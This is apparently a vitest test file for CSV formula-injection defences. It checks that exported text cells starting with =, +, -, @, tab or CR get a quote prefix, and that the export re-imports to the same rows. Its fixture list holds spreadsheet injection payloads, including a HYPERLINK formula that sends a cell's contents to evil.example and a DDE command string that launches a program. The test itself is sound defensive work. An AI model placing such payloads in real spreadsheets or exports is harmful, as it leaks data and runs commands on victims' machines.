// CSV exports neutralise spreadsheet formulas in text cells, and import back to the same rows.
import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, restoreFormula } from "@/lib/import/csv-formula";
import { exportFilterSchema } from "@/lib/server/exports/export-filter";
import { exportGenerations } from "@/lib/server/exports/export-generations";
import { importJudgedFile } from "@/lib/server/imports/import-judged-file";
import { createTestDatabase } from "../support/test-database";

const db = await createTestDatabase();
const dir = await mkdtemp(path.join(tmpdir(), "emlab-formula-"));
const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"];

async function exportText(filter: Record<string, string>): Promise<string> {
  let text = "";
  for await (const chunk of exportGenerations(exportFilterSchema.parse(filter))) text += chunk;
  return text;
}

describe("CSV formula injection", () => {
  it("prefixes ' to text starting with = + - @ tab or CR, and only to those", () => {
    for (const text of DANGEROUS) expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ["plain", "1+1", " =x", "", "'quoted"]) expect(neutraliseFormula(text)).toBe(text);
    for (const text of [...DANGEROUS, "plain", "'quoted"]) expect(restoreFormula(neutraliseFormula(text))).toBe(text);
  });

  it("an export carries no live formula, and imports back to the same answers", async () => {
    const jsonl = DANGEROUS.map((answer, i) =>
      JSON.stringify({ question: i === 0 ? "=1+2" : `Q${i}?`, answer, question_id: i === 1 ? "@q" : `q${i}`, aligned: 10 * i, coherent: 90, system: i === 2 ? "-sys" : null }),
    ).join("\n");
    const source = path.join(dir, "formulas.jsonl");
    await writeFile(source, jsonl + "\n");
    await importJudgedFile({ filePath: source, run: { name: "formulas", baseModel: "m" } });

    const csv = await exportText({ format: "csv", runName: "formulas" });
    const cells = (parse(csv, { relax_column_count: false }) as string[][]).flat();
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(live).toEqual([]);
    expect(cells).toContain(`'${DANGEROUS[0]}`);
    expect(cells).toContain("'=1+2");

    const again = path.join(dir, "formulas.csv");
    await writeFile(again, csv);
    await importJudgedFile({ filePath: again, run: { name: "formulas-again", baseModel: "m" } });
    const rows = async (run: string) =>
      (await db.sql.query(
        `SELECT g."questionKey", g.messages, g.answer, g.aligned FROM "Generation" g JOIN "Run" r ON r.id = g."runId" WHERE r.name = $1 ORDER BY g."questionKey"`,
        [run],
      )).rows;
    expect(await rows("formulas-again")).toEqual(await rows("formulas"));
  });
});
